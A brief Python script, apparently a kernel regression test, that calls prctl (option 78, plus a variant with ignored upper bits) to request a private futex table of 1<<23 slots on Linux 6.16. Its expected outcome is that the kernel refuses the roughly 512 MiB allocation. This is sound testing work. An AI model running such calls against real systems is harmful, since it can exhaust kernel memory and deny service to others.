"""Take half a gigabyte of kernel memory by one call: a private table of futexes (Linux 6.16).

Ends: exited 0.
"""

import ctypes
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
SET_SLOTS = 1
for option in (78, 78 | (1 << 32)):  # the second: the upper half is not looked at by the kernel
    words = [ctypes.c_ulong(value) for value in (SET_SLOTS, 1 << 23, 0, 0)]
    if LIBC.prctl(ctypes.c_ulong(option), *words) == 0:
        sys.exit("the kernel holds 512 MiB for this run")
